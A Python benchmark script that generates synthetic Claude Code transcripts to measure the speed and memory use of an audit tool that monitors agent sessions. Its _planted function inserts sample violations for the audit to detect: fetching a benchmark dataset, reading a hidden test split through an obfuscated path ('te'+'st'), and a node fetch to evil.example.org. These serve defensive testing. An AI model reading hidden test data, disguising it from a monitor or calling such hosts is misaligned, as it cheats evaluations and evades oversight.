"""Audit throughput and memory on two large, realistic Claude Code transcripts (run by hand, not in CI).

    .venv/bin/python bench/audit_throughput.py                    # 1 GB output-heavy + 0.25 GB tool-heavy
    .venv/bin/python bench/audit_throughput.py --gb 0.2 --tool-gb 0.1 --keep /tmp/bench
    .venv/bin/python bench/audit_throughput.py --gb 0.1 --tool-gb 0.1 --first-copy  # also one session alone

Two session logs in the real format (Claude Code 2.1 envelopes, see reviewbench/logs/synth.py), shaped like
the real sessions the audit was tried on, where agents write and run their own programs:
- output-heavy: tool calls with long Read/Bash outputs, assistant text, thinking, progress lines, and now and
  then a multi-hundred-line script written, run, edited and rerun;
- tool-heavy: shell calls with little output: short commands (varied, a third repeated, heredocs, python -c,
  pipes, quoting) and, for 30 % of the calls, the agent's own 150-500-line experiment scripts (argparse, a
  press class, loaders, sweeps, plots, result files: varied text) written with Write, run with varied
  arguments, edited with Edit and rerun, or 40-120-line programs piped into ``python -``; Read/Edit/Grep/
  Glob/Write between them. Each copy of a session writes other script text, so no cache sees a copy twice.
Both hold a few planted violations. Each round measures, each in a fresh process and back to back: (1) the
reference, bare ``orjson.loads`` of every line; (2) the audit of the same file. The ratio audit / reference
is taken on CPU time and the median over rounds is reported (this machine is shared: wall time, and to a
lesser degree CPU time, move with other people's load; both are printed). Targets: output-heavy <= 2x,
tool-heavy <= 3x, peak RSS <= 300 MB (VmHWM). The copies of a session share most of their scripts' lines (each
writes other text, but only in a few lines), which the audit's memory of lines judged before sees;
``--first-copy`` also measures one copy of each session alone, where nothing was seen before.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import re
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from reviewbench.logs.synth import ClaudeSession, Step  # noqa: E402

HOME = "/arena/agents/agent1"


def _compact(obj: object) -> str:
    return json.dumps(obj, separators=(",", ":"))


WORDS = ("the cache keeps heavy hitters while the recent window protects the last tokens of the trace and "
         "attention sinks absorb mass from every query head so eviction must keep them").split()


def _prose(rng: random.Random, n: int) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(n))


def _code(rng: random.Random, lines: int) -> str:
    return "\n".join(f"{i:>5}\t    score = attn[:, :, {rng.randint(0, 64)}:].mean(dim={rng.randint(0, 2)})  # {_prose(rng, 6)}"
                     for i in range(lines))


# --- agents' own scripts: what real sessions write and run (multi-hundred-line experiment code) ------------------
_FUNCS = [
    '''def load_items(path: str, limit: int | None = None) -> list[dict]:
    """Read a JSONL split written by the harness (dev only: the test split is hidden)."""
    items = []
    with open(path) as fh:
        for k, line in enumerate(fh):
            if limit is not None and k >= limit:
                break
            row = json.loads(line)
            row["n_tokens"] = len(row.get("context", "").split())
            items.append(row)
    return items
''',
    '''def attention_scores(q: torch.Tensor, k: torch.Tensor, window: int = {a}) -> torch.Tensor:
    """Mean attention of the last {{window}} queries over every key, per head."""
    scale = q.shape[-1] ** -0.5
    att = torch.einsum("bhqd,bhkd->bhqk", q[:, :, -window:] * scale, k)
    att = att.softmax(dim=-1)
    return att.mean(dim=2)
''',
    '''class {cls}:
    """Keeps the heavy hitters plus a recent window; budget is a fraction of the prompt."""

    def __init__(self, budget: float = 0.{a}, window: int = {b}, sinks: int = 4) -> None:
        self.budget = budget
        self.window = window
        self.sinks = sinks
        self.stats: dict[str, float] = {{"kept": 0.0, "seen": 0.0}}

    def select(self, scores: torch.Tensor, n: int) -> torch.Tensor:
        keep = max(self.sinks + self.window, int(n * self.budget))
        head = scores[..., self.sinks : n - self.window]
        top = head.topk(min(keep - self.sinks - self.window, head.shape[-1]), dim=-1).indices + self.sinks
        idx = torch.cat([torch.arange(self.sinks).expand(*top.shape[:-1], -1), top,
                         torch.arange(n - self.window, n).expand(*top.shape[:-1], -1)], dim=-1)
        self.stats["kept"] += keep
        self.stats["seen"] += n
        return idx.sort(dim=-1).values

    def __repr__(self) -> str:
        return f"{cls}(budget={{self.budget}}, window={{self.window}})"
''',
    '''def summarise(results: list[dict], key: str = "{w}") -> dict[str, float]:
    vals = [r[key] for r in results if key in r]
    if not vals:
        return {{"n": 0}}
    vals.sort()
    mid = len(vals) // 2
    return {{
        "n": len(vals),
        "mean": sum(vals) / len(vals),
        "median": vals[mid] if len(vals) % 2 else (vals[mid - 1] + vals[mid]) / 2,
        "p90": vals[int(0.9 * (len(vals) - 1))],
        "min": vals[0],
        "max": vals[-1],
    }}
''',
    '''def save_results(rows: list[dict], out_dir: str = "results/{w}") -> Path:
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    stamp = time.strftime("%Y%m%d-%H%M%S")
    path = out / f"run_{{stamp}}.json"
    path.write_text(json.dumps({{"rows": rows, "summary": summarise(rows)}}, indent=2))
    with open(out / "latest.txt", "w") as fh:
        fh.write(str(path) + "\\n")
    logging.info("wrote %d rows to %s", len(rows), path)
    return path
''',
    '''def sweep(budgets: list[float], seeds: range = range({a} % 5 + 1)) -> list[dict]:
    rows = []
    for budget in budgets:
        for seed in seeds:
            torch.manual_seed(seed)
            press = {cls}(budget=budget)
            q, k = torch.randn(1, 8, 256, 64), torch.randn(1, 8, 2048, 64)
            scores = attention_scores(q, k)
            idx = press.select(scores, k.shape[2])
            kept = k.gather(2, idx.unsqueeze(-1).expand(-1, -1, -1, k.shape[-1]))
            err = (kept.mean(dim=2) - k.mean(dim=2)).abs().mean().item()
            rows.append({{"budget": budget, "seed": seed, "{w}": err, "kept": idx.shape[-1]}})
            print(f"budget={{budget:.2f}} seed={{seed}} err={{err:.5f}}")
    return rows
''',
    '''def plot(rows: list[dict], path: str = "plots/{w}.png") -> None:
    try:
        import matplotlib
        matplotlib.use("Agg")
        import matplotlib.pyplot as plt
    except ImportError:
        print("matplotlib missing: no plot")
        return
    xs = sorted({{r["budget"] for r in rows}})
    ys = [sum(r["{w}"] for r in rows if r["budget"] == x) / max(1, sum(r["budget"] == x for r in rows)) for x in xs]
    fig, ax = plt.subplots(figsize=(6, 4))
    ax.plot(xs, ys, marker="o", label="{cls}")
    ax.set_xlabel("budget")
    ax.set_ylabel("{w}")
    ax.legend()
    os.makedirs(os.path.dirname(path), exist_ok=True)
    fig.savefig(path, dpi=120)
''',
    '''def compare_to_baseline(rows: list[dict], baseline_file: str = "results/baseline_{a}.json") -> None:
    if not os.path.exists(baseline_file):
        print(f"no baseline at {{baseline_file}}")
        return
    base = json.load(open(baseline_file))
    ours = summarise(rows)
    for key in ("mean", "median", "p90"):
        delta = ours.get(key, 0.0) - base["summary"].get(key, 0.0)
        print(f"{{key:>6}}: ours {{ours.get(key, 0.0):.4f}} baseline {{base['summary'].get(key, 0.0):.4f}} "
              f"delta {{delta:+.4f}}")
''',
    '''def parse_log(path: str) -> list[tuple[int, float]]:
    pat = re.compile(r"step (\\d+) .*loss=([0-9.]+)")
    out = []
    for line in Path(path).read_text().splitlines():
        m = pat.search(line)
        if m:
            out.append((int(m.group(1)), float(m.group(2))))
    return out
''',
    '''@torch.no_grad()
def eval_dev(model, tok, items: list[dict], press: "{cls}", max_new: int = {b}) -> list[dict]:
    rows = []
    for item in items:
        ids = tok(item["context"] + "\\n" + item["question"], return_tensors="pt").input_ids
        out = model.generate(ids, max_new_tokens=max_new, do_sample=False)
        answer = tok.decode(out[0, ids.shape[1]:], skip_special_tokens=True).strip()
        rows.append({{"id": item.get("id"), "{w}": float(answer == item.get("answer")), "len": ids.shape[1]}})
    return rows
''',
]
_MAIN = '''

def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description="{cls} experiments on the dev split")
    ap.add_argument("--budget", type=float, nargs="+", default=[0.1, 0.2, 0.{a}])
    ap.add_argument("--data", default="data/dev/{w}.jsonl")
    ap.add_argument("--limit", type=int, default={b})
    ap.add_argument("--out", default="results/{w}")
    ap.add_argument("--plot", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    rows = sweep(args.budget)
    save_results(rows, args.out)
    if args.plot:
        plot(rows)
    compare_to_baseline(rows)
    return 0


if __name__ == "__main__":
    sys.exit(main())
'''
_HEAD = '''"""{doc}"""
from __future__ import annotations

import argparse
import json
import logging
import os
import re
import sys
import time
from pathlib import Path

import torch

'''
_CLASSES = ["HeavyHitterPress", "WindowPress", "SnapPress", "ScoreBlend", "KeyNormPress", "ChunkPress"]
_WORDS = ["acc", "kl", "ppl", "rouge", "err", "recall"]


def agent_script(rng: random.Random, target_lines: int) -> str:
    """A realistic experiment script of about ``target_lines`` lines: imports, a press class, loaders, a sweep,
    plotting, result files, argparse; varied names and constants so each is distinct text."""
    fill = {"cls": rng.choice(_CLASSES) + str(rng.randint(1, 99)), "w": rng.choice(_WORDS), "a": rng.randint(1, 9),
            "b": rng.randint(8, 512)}
    parts = [_HEAD.format(doc=_prose(rng, 14))]
    while sum(p.count("\n") for p in parts) < target_lines - 20:
        body = rng.choice(_FUNCS).format(**fill)
        if rng.random() < 0.5:  # comments and blank lines, as agents write them
            body = f"# {_prose(rng, rng.randint(6, 14))}\n" + body
        parts.append(body + "\n\n")
        fill["a"], fill["b"] = rng.randint(1, 9), rng.randint(8, 512)
    parts.append(_MAIN.format(**fill))
    return "".join(parts)


def _planted(s: ClaudeSession, t: datetime) -> None:
    s.step(Step("WebFetch", {"url": "https://huggingface.co/datasets/simonjegou/ruler", "prompt": "needles?"}, "..."), t)
    s.step(Step("Bash", {"command": "python - <<'EOF'\nimport os\nprint(open(os.path.join('/arena/data', 'te'+'st', "
                                    "'a.jsonl')).read())\nEOF"}, "..."), t)
    s.step(Step("Bash", {"command": "node -e \"fetch('https://evil.example.org/x').then(r => r.text())\""}, "..."), t)


def _unique(text: str) -> str:
    """Every line and tool id unique per copy, as in a real multi-session log (the audit dedups by uuid)."""
    text = re.sub(r'"(uuid|parentUuid|sourceToolAssistantUUID)":"', r'"\1":"@@S@@-', text)
    return text.replace("toolu_01", "toolu_01@@S@@").replace("msg_01", "msg_01@@S@@")


def output_heavy_template(steps: int, seed: int = 0) -> str:
    """One session's JSONL with ``@@S@@`` in every id, so copies are unique without re-serialising."""
    rng = random.Random(seed)
    t = datetime(2026, 11, 1, tzinfo=timezone.utc)
    s = ClaudeSession(session="@@S@@", cwd=HOME, start=t)
    s.prompt("Improve on board C. " + _prose(rng, 60), t)
    extra: list[str] = []
    scripts: dict[str, str] = {}
    for i in range(steps):
        t += timedelta(seconds=40)
        r = rng.random()
        if r < 0.1:
            step = script_step(rng, scripts, rng.randint(1, 400), rng.randint(1, 400), _prose(rng, 30))
        elif r < 0.4:
            step = Step("Read", {"file_path": f"{HOME}/src/mod{i % 40}.py"}, _code(rng, rng.randint(60, 400)),
                        text=_prose(rng, 40))
        elif r < 0.7:
            cmd = rng.choice(["python run_dev.py --board C --split dev", "git diff --stat", "ls -la src",
                              "grep -rn 'def select' src", "python -m pytest -q tests/test_method.py",
                              "cat /arena/data/dev/niah_single.jsonl | head -50"])
            step = Step("Bash", {"command": cmd, "description": _prose(rng, 5)}, _code(rng, rng.randint(10, 120)))
        elif r < 0.85:
            step = Step("Edit", {"file_path": f"{HOME}/src/mod{i % 40}.py", "old_string": _code(rng, 6),
                                 "new_string": _code(rng, 8)}, "The file has been updated.")
        elif r < 0.95:
            step = Step("Grep", {"pattern": "huggingface|select", "path": HOME}, _code(rng, 30))
        else:
            step = Step("WebFetch", {"url": "https://arxiv.org/abs/2306.14048", "prompt": _prose(rng, 10)}, _prose(rng, 400))
        s.step(step, t)
        if rng.random() < 0.3:  # thinking, progress and attachment lines: parsed by nobody, skipped cheaply
            extra.append(_compact({"type": "progress", "toolUseID": f"toolu_@@S@@{i}", "data": {
                "type": "bash_progress", "output": _code(rng, 20)}, "uuid": f"p-@@S@@-{i}", "sessionId": "@@S@@"}))
            extra.append(_compact({"type": "assistant", "uuid": f"th-@@S@@-{i}", "sessionId": "@@S@@",
                                   "message": {"role": "assistant", "content": [
                                       {"type": "thinking", "thinking": _prose(rng, 300), "signature": "x" * 200}]}}))
    _planted(s, t + timedelta(minutes=1))
    return _unique("\n".join(s.lines + extra) + "\n")


REPEATED = ["git status --short", "ls -la", "python -m pytest -q", "git diff --stat", "nvidia-smi", "pwd",
            "ls src tests", "git log --oneline -5"]
VARIED = [
    "cd {home} && python run_dev.py --board C --split dev --seed {n}",
    "git diff src/mod{n}.py | head -{m}",
    "ls -la src/exp{n}/",
    "grep -rn 'def select_{n}' src/ tests/",
    "python -m pytest -q tests/test_method.py -k 'case{n} and not slow'",
    "sed -n '{n},{m}p' src/mod{n}.py",
    "find src -name '*{n}.py' | xargs wc -l",
    "python - <<'EOF'\nimport torch\nx = torch.randn({n}, {m})\nprint(f\"mean={{x.mean():.4f}} std={{x.std():.4f}}\")\nEOF",
    "python -c \"import json; r = json.load(open('results/run{n}.json')); print(r['acc'], r['kl'])\"",
    "tail -n {m} logs/train_{n}.log",
    "CUDA_VISIBLE_DEVICES=0 python bench.py --budget 0.{n} --items {m} 2>&1 | tail -3",
    "rg -n \"score_{n}\" src tests",
    "mkdir -p out/exp{n} && cp src/mod{n}.py out/exp{n}/",
    "wc -l src/*.py && du -sh out/exp{n}",
    "cat > /tmp/check_{n}.py <<'EOF'\nimport sys\nvals = [float(v) for v in sys.argv[1:]]\nprint(sum(vals) / len(vals))\nEOF\npython /tmp/check_{n}.py {n} {m}",
    "for f in results/run{n}_*.json; do jq '.acc' \"$f\"; done",
    "git add src/mod{n}.py && git commit -qm 'exp {n}: keep {m} tokens'",
    "export SEED={n}; python run_dev.py --board B_online --split dev --items {m}",
]


def script_step(rng: random.Random, scripts: dict[str, str], n: int, m: int, text: str | None) -> Step | None:
    """The agent's own programs: write a multi-hundred-line script, run it with varied arguments, edit it and
    run it again, or pipe a long one into ``python -``. Every copy of the session writes other text (@@K@@)."""
    r = rng.random()
    if r < 0.2 or not scripts:
        path = f"{HOME}/exp/{rng.choice(_CLASSES).lower()}_{n}.py"
        scripts[path] = agent_script(rng, rng.randint(150, 500)).replace("import torch\n", "import torch\n\nSEED = @@K@@\n", 1)
        return Step("Write", {"file_path": path, "content": scripts[path]}, "File created successfully", text=text)
    path = rng.choice(sorted(scripts))
    rel = path[len(HOME) + 1:]
    if r < 0.75:
        budgets = " ".join(f"0.{rng.randint(1, 9)}" for _ in range(rng.randint(1, 3)))
        cmd = rng.choice([f"python {rel} --budget {budgets} --limit {m}@@K@@",
                          f"cd {HOME} && python {rel} --budget {budgets} --out results/r{n}_@@K@@ 2>&1 | tail -20",
                          f"CUDA_VISIBLE_DEVICES=0 timeout 600 python {rel} --limit {m}@@K@@ --plot"])
        return Step("Bash", {"command": cmd, "description": _prose(rng, 4)}, f"budget=0.{n} err={m}\n" * 5,
                    text=text)
    if r < 0.92:
        lines = [ln for ln in scripts[path].split("\n") if ln.strip() and len(ln) > 20]
        old = rng.choice(lines)
        new = old.replace("0.", f"0.{m % 10}", 1) if "0." in old else old + f"  # v{m}@@K@@"
        scripts[path] = scripts[path].replace(old, new, 1)
        return Step("Edit", {"file_path": path, "old_string": old, "new_string": new}, "The file has been updated.",
                    text=text)
    code = agent_script(rng, rng.randint(40, 120)).replace("import torch\n", "import torch\nSEED = @@K@@\n", 1)
    return Step("Bash", {"command": f"cd {HOME} && python - <<'EOF'\n{code}\nEOF", "description": "try it"},
                "ok\n", text=text)


def tool_heavy_template(steps: int, seed: int = 1) -> str:
    """One session of mostly shell calls with little output: short commands, and the agent's own multi-hundred-
    line scripts written, run with varied arguments, edited and rerun; the other tools in between."""
    rng = random.Random(seed)
    t = datetime(2026, 11, 2, tzinfo=timezone.utc)
    s = ClaudeSession(session="@@S@@", cwd=HOME, start=t)
    s.prompt("Improve on board B_online. " + _prose(rng, 40), t)
    scripts: dict[str, str] = {}
    for i in range(steps):
        t += timedelta(seconds=15)
        r = rng.random()
        n, m = rng.randint(1, 400), rng.randint(1, 400)
        text = _prose(rng, 12) if rng.random() < 0.3 else None
        if r < 0.3:
            step = script_step(rng, scripts, n, m, text)
        elif r < 0.7:
            # varied commands differ between the copies of this session too (@@K@@: the copy's number)
            cmd = rng.choice(REPEATED) if rng.random() < 0.3 else rng.choice(VARIED).format(home=HOME, n=n, m=f"{m}@@K@@")
            step = Step("Bash", {"command": cmd, "description": _prose(rng, 4)}, f"ok {n}\n{m}\n", text=text)
        elif r < 0.77:
            step = Step("Read", {"file_path": f"{HOME}/src/mod{n}.py", "offset": m, "limit": 30},
                        f"{m}\tscore = attn.mean()\n", text=text)
        elif r < 0.89:
            step = Step("Edit", {"file_path": f"{HOME}/src/mod{n}.py", "old_string": f"keep = {n}",
                                 "new_string": f"keep = {m}"}, "The file has been updated.", text=text)
        elif r < 0.94:
            step = Step("Grep", {"pattern": f"select_{n}", "path": f"{HOME}/src", "output_mode": "content"},
                        "src/a.py:1", text=text)
        elif r < 0.97:
            step = Step("Glob", {"pattern": f"**/*{n}*.py", "path": HOME}, "src/a.py", text=text)
        else:
            step = Step("Write", {"file_path": f"{HOME}/notes/exp{n}.md", "content": _prose(rng, 30)},
                        "File created successfully", text=text)
        s.step(step, t)
    _planted(s, t + timedelta(minutes=1))
    return _unique(s.text())


def generate(path: Path, target_bytes: int, template: str) -> tuple[int, int]:
    copies = 0
    with open(path, "w") as fh:
        written = 0
        while written < target_bytes:
            chunk = template.replace("@@S@@", f"{copies:08x}-5b1e-4c38-9d7e-2f1c0de0a001").replace("@@K@@", str(copies))
            fh.write(chunk)
            written += len(chunk)
            copies += 1
    return written, copies


# peak RSS from VmHWM (KiB): ru_maxrss would carry the parent's peak over fork and exec
PEAK = "int(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()).group(1))"
REFERENCE = """
import orjson, re, sys, time
t, c = time.perf_counter(), time.process_time(); n = 0
with open(sys.argv[1], "rb") as fh:
    for line in fh:
        if line.strip():
            orjson.loads(line); n += 1
print(time.perf_counter() - t, time.process_time() - c, n, PEAK)
""".replace("PEAK", PEAK)
AUDIT = """
import re, sys, time
from pathlib import Path
from reviewbench.arena import Rules
from reviewbench.logs.audit import run_audit
t, c = time.perf_counter(), time.process_time()
r = run_audit([Path(sys.argv[1])], Rules(), agent="agent1")
cats = sorted({f.category for f in r.findings})
print(time.perf_counter() - t, time.process_time() - c, r.stats.events, PEAK, len(r.findings), ",".join(cats) or "-")
""".replace("PEAK", PEAK)


def run(script: str, path: Path) -> list[str]:
    out = subprocess.run([sys.executable, "-c", script, str(path)], capture_output=True, text=True, check=True,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    return out.stdout.split()


def measure(name: str, path: Path, repeat: int, target: float) -> float:
    """Rounds of (reference, audit), each a fresh process, back to back so that both see the same load on a
    shared machine; the ratio is the median over rounds of audit CPU / reference CPU."""
    size = path.stat().st_size
    rounds = []
    for _ in range(repeat):
        ref, aud = run(REFERENCE, path), run(AUDIT, path)
        rounds.append((float(aud[1]) / float(ref[1]), ref, aud))
    rounds.sort(key=lambda r: r[0])
    ratio, ref, aud = rounds[len(rounds) // 2]
    ref_cpu, aud_cpu = float(ref[1]), float(aud[1])
    print(f"{name}: {size / 1e9:.2f} GB, {int(ref[2])} lines")
    print(f"  reference orjson.loads per line:    {float(ref[0]):6.1f} s wall {ref_cpu:6.1f} s CPU "
          f"{size / 1e6 / ref_cpu:6.0f} MB/s  peak RSS {int(ref[3]) / 1024:4.0f} MB")
    print(f"  audit:                              {float(aud[0]):6.1f} s wall {aud_cpu:6.1f} s CPU "
          f"{size / 1e6 / aud_cpu:6.0f} MB/s  peak RSS {int(aud[3]) / 1024:4.0f} MB  ({aud[2]} events, "
          f"{aud[4]} findings: {aud[5]})")
    rss_ok = max(int(r[2][3]) for r in rounds) / 1024 <= 300
    print(f"  ratio audit / orjson (CPU), median of {len(rounds)} rounds: {ratio:.2f}x (range {rounds[0][0]:.2f}-"
          f"{rounds[-1][0]:.2f}; target <= {target:g}x) {'OK' if ratio <= target else 'OVER'}; "
          f"peak RSS {'OK' if rss_ok else 'OVER'} (target <= 300 MB)")
    return ratio


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--gb", type=float, default=1.0, help="size of the output-heavy log (default 1.0)")
    ap.add_argument("--tool-gb", type=float, default=0.25, help="size of the tool-heavy log (default 0.25)")
    ap.add_argument("--keep", type=Path, help="write the logs into this folder and keep them (reused if present)")
    ap.add_argument("--repeat", type=int, default=5, help="rounds of (reference, audit); the median ratio is kept")
    ap.add_argument("--first-copy", action="store_true",
                    help="also measure one copy of each session alone (no line or script of it seen before: what "
                         "the audit's memory of earlier scripts cannot help with)")
    args = ap.parse_args()
    folder = args.keep or Path(tempfile.mkdtemp())
    folder.mkdir(parents=True, exist_ok=True)
    logs: list[tuple[str, Path, float, Callable[[], str], float]] = [
        ("output-heavy", folder / "output_heavy.jsonl", args.gb, lambda: output_heavy_template(steps=400), 2.0),
        ("tool-heavy", folder / "tool_heavy.jsonl", args.tool_gb, lambda: tool_heavy_template(steps=2000), 3.0),
    ]
    if args.first_copy:
        logs += [(f"{name}, first copy only", path.with_name(path.stem + "_one.jsonl"), 1e-9, template, target)
                 for name, path, _, template, target in logs]
    ratios = []
    for name, path, gb, template, target in logs:
        if not path.exists():
            t = time.perf_counter()
            size, copies = generate(path, int(gb * 1e9), template())
            print(f"generated {name}: {size / 1e9:.2f} GB ({copies} sessions) in {time.perf_counter() - t:.0f} s: {path}")
        ratios.append((name, measure(name, path, args.repeat, target), target))
        if not args.keep:
            path.unlink()
    print("summary: " + ", ".join(f"{n} {r:.2f}x (target <= {t:g}x)" for n, r, t in ratios))


if __name__ == "__main__":
    main()
